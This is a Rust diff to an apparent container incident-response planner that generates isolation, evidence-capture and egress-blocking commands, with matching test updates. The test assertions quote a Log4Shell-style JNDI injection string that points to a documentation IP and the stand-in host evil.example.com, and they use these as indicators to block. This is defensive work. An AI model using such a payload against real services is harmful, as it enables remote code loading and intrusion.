@@ -19,7 +19,8 @@ const ESCAPE_RULES: &[&str] = &[
     "exposure.host-pid",
     "exposure.cap-add",
 ];
-/// Finding categories whose summaries carry the attacker's addresses.
+/// Finding categories whose summaries carry the attacker's addresses (miner findings,
+/// rules ending in `.miner`, carry the pool's).
 const IOC_CATEGORIES: &[&str] = &["initial-access", "command-and-control"];
 /// Characters of a finding summary quoted in a step's `why`.
 const QUOTE_MAX: usize = 240;
@@ -68,7 +69,7 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
                 answers(&t.name)
             ),
             commands: vec![
-                format!("IFLINK=$(docker exec {n} cat /sys/class/net/eth0/iflink)"),
+                format!("{}=$(docker exec {n} cat /sys/class/net/eth0/iflink)", iflink_var(&t.name)),
                 format!(
                     "nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ip -o link show eth0"
                 ),
@@ -171,11 +172,15 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
             why: "if the disconnect fails or the daemon does not answer, the veth recorded in the first step \
                   still cuts the container off at the host"
                 .into(),
-            commands: vec![
-                "ip -o link | grep \"^${IFLINK}:\"".into(),
-                "ip link set \"$(ip -o link | awk -F': ' -v n=\"$IFLINK\" '$1 == n {sub(/@.*/, \"\", $2); print $2}')\" down"
-                    .into(),
-            ],
+            commands: {
+                let v = iflink_var(&t.name);
+                vec![
+                    format!("ip -o link | grep \"^${{{v}}}:\""),
+                    format!(
+                        "ip link set \"$(ip -o link | awk -F': ' -v n=\"${v}\" '$1 == n {{sub(/@.*/, \"\", $2); print $2}}')\" down"
+                    ),
+                ]
+            },
         });
     }
 
@@ -275,13 +280,16 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
         });
     }
 
-    let iocs: Vec<&Finding> =
-        findings.iter().filter(|f| IOC_CATEGORIES.contains(&f.category.as_str())).collect();
+    // Callbacks of the intrusion, and the pools a miner talks to (egress to block too).
+    let iocs: Vec<&Finding> = findings
+        .iter()
+        .filter(|f| IOC_CATEGORIES.contains(&f.category.as_str()) || f.rule.ends_with(".miner"))
+        .collect();
     if !iocs.is_empty() {
         let quoted: Vec<String> =
             iocs.iter().map(|f| format!("{}: \"{}\"", f.rule, clip(&f.summary))).collect();
         let (ips, hosts) = indicators(&iocs);
-        let mut block: Vec<String> = ips
+        let block: Vec<String> = ips
             .iter()
             .flat_map(|ip| {
                 [
@@ -290,10 +298,15 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
                 ]
             })
             .collect();
-        block.extend(hosts.iter().map(|h| format!("# block {h} at the DNS resolver / egress proxy")));
+        let names = if hosts.is_empty() {
+            String::new()
+        } else {
+            let list: Vec<&str> = hosts.iter().map(String::as_str).collect();
+            format!("; block these host names at the DNS resolver or egress proxy: {}", list.join(", "))
+        };
         steps.push(ResponseStep {
             step: "Block the attacker's callback addresses".into(),
-            why: format!("the findings name them: {}", quoted.join("; ")),
+            why: format!("the findings name them: {}{names}", quoted.join("; ")),
             commands: block,
         });
         let all: Vec<&String> = ips.iter().chain(hosts.iter()).collect();
@@ -370,6 +383,12 @@ fn repo_name(name: &str) -> String {
     } else {
         s.to_string()
     }
+}
+
+/// The shell variable holding a container's veth index (`IFLINK_web`).
+fn iflink_var(name: &str) -> String {
+    let safe: String = name.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect();
+    format!("IFLINK_{safe}")
 }
 
 /// Quote for a POSIX shell (names come from hostile evidence).
@@ -487,6 +506,7 @@ mod tests {
             attack: Some("T1190".into()),
             time: None,
             evidence: vec![Locator::artifact("access.log").with_line(3)],
+            subject: None,
         }
     }
 
@@ -519,13 +539,15 @@ mod tests {
         );
         let cmds = |i: usize| plan[i].commands.join("\n");
         assert_eq!(cmds(1), "docker pause web");
+        assert!(cmds(0).starts_with("IFLINK_web=$(docker exec web cat /sys/class/net/eth0/iflink)"));
+        assert!(cmds(7).starts_with("ip -o link | grep \"^${IFLINK_web}:\""), "{}", cmds(7));
         assert!(cmds(4).starts_with(
             "docker commit 4f2a9c1be0d3aa55e0f1c2d3b4a59687 ctriage-evidence/web:$(date -u +%Y%m%d)"
         ));
         assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
         assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
         assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
-        assert!(cmds(10).contains("evil.example.com"));
+        assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
         assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
         assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
         assert!(
